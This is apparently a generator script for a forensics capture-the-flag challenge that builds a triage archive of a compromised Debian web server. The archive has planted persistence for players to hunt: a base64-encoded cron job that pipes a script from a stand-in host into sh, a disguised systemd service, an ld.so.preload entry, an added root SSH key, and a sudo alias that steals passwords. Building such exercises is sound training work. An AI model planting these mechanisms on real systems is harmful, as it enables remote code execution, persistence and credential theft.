#!/usr/bin/env python3
"""Regenerates content/challenges/persistence-hunt/files/triage.tar.gz (deterministic: fixed mtimes, owners, gzip time).

A triage collection of a Debian web server: configuration that normally changes rarely, with the intruder's
persistence mixed in. Everything the intruder wrote carries mtimes of 2026-10-03; everything else is older.
"""
import base64
import gzip
import io
import tarfile
from datetime import datetime, timezone

from shared.output import challenge_files, write_bytes

OUT = challenge_files("persistence-hunt") / "triage.tar.gz"


def ts(text: str) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=timezone.utc).timestamp())


OLD = "2025-06-12T10:15:00"
BEACON = "curl -fsS http://cdn-update.example.net/k.sh | sh"
ENCODED = base64.b64encode(BEACON.encode()).decode()

FILES: list[tuple[str, str, str, str]] = [
    # path, mtime, mode, content
    ("etc/passwd", "2025-11-02T09:00:00", "0644",
     "root:x:0:0:root:/root:/bin/bash\n"
     "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
     "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
     "sshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n"
     "deploy:x:1000:1000:Deploy,,,:/home/deploy:/bin/bash\n"
     "mara:x:1001:1001:Mara Quint,,,:/home/mara:/bin/bash\n"),
    ("etc/systemd/system/nginx.service.d/override.conf", "2025-09-01T14:02:00", "0644",
     "[Service]\nLimitNOFILE=65535\n"),
    ("etc/systemd/system/shop-worker.service", OLD, "0644",
     "[Unit]\nDescription=Shop background worker\nAfter=network.target\n\n"
     "[Service]\nUser=deploy\nExecStart=/usr/bin/php /var/www/shop/bin/worker.php\nRestart=always\n\n"
     "[Install]\nWantedBy=multi-user.target\n"),
    ("etc/systemd/system/dbus-org.freedesktop.resolve2.service", "2026-10-03T02:47:00", "0644",
     "[Unit]\nDescription=Network Name Resolution Helper\nAfter=network-online.target\n\n"
     "[Service]\nExecStart=/usr/lib/x86_64-linux-gnu/.cache/resolved-helper\nRestart=always\nRestartSec=30\n\n"
     "[Install]\nWantedBy=multi-user.target\n"),
    ("etc/cron.d/php", "2025-03-14T08:00:00", "0644",
     "# Look for and purge old sessions every 30 minutes\n"
     "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n"),
    ("etc/cron.d/logrotate-extra", "2026-10-03T02:51:00", "0644",
     "SHELL=/bin/sh\n"
     f"*/20 * * * * root echo {ENCODED} | base64 -d | sh >/dev/null 2>&1\n"),
    ("etc/cron.d/certbot", "2025-01-20T11:30:00", "0644",
     "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"),
    ("etc/ld.so.preload", "2026-10-03T02:44:00", "0644", "/usr/lib/x86_64-linux-gnu/libnss_cache.so.3\n"),
    ("etc/sudoers.d/deploy", "2025-06-12T10:20:00", "0440",
     "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart shop-worker\n"),
    ("root/.ssh/authorized_keys", "2026-10-03T02:39:00", "0600",
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBv1kP3yRzG0qL7mZQxq9fYw4u2oT6sP1aXcN8dE5hJk ops@bastion-jump\n"
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2mQ8wX4eR7tY1uI0oP9aS6dF3gH5jK2lZ7xC4vB8nM backup-svc@kraken\n"),
    ("home/deploy/.bashrc", "2025-06-12T10:16:00", "0644",
     "# ~/.bashrc: executed by bash(1) for non-login shells.\n[ -z \"$PS1\" ] && return\nHISTCONTROL=ignoreboth\n"
     "alias ll='ls -alF'\n"),
    ("home/mara/.bashrc", "2026-10-03T02:55:00", "0644",
     "# ~/.bashrc: executed by bash(1) for non-login shells.\n[ -z \"$PS1\" ] && return\nHISTCONTROL=ignoreboth\n"
     "alias ll='ls -alF'\n"
     "alias sudo='read -rsp \"[sudo] password for $USER: \" p; echo; echo \"$p\" >> /var/tmp/.X11-cache; unset p; sudo'\n"),
]
OWNERS = {"home/deploy": ("deploy", 1000), "home/mara": ("mara", 1001)}

raw = io.BytesIO()
with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
    for path, mtime, mode, content in sorted(FILES):
        data = content.encode()
        info = tarfile.TarInfo(path)
        info.size = len(data)
        info.mtime = ts(mtime)
        info.mode = int(mode, 8)
        name, uid = next(((n, u) for prefix, (n, u) in OWNERS.items() if path.startswith(prefix)), ("root", 0))
        info.uname = info.gname = name
        info.uid = info.gid = uid
        tar.addfile(info, io.BytesIO(data))

packed = io.BytesIO()
with gzip.GzipFile(filename="", mode="wb", fileobj=packed, mtime=ts("2026-10-04T07:30:00")) as gz:
    gz.write(raw.getvalue())
write_bytes(OUT, packed.getvalue())
print(OUT, len(packed.getvalue()), "bytes")
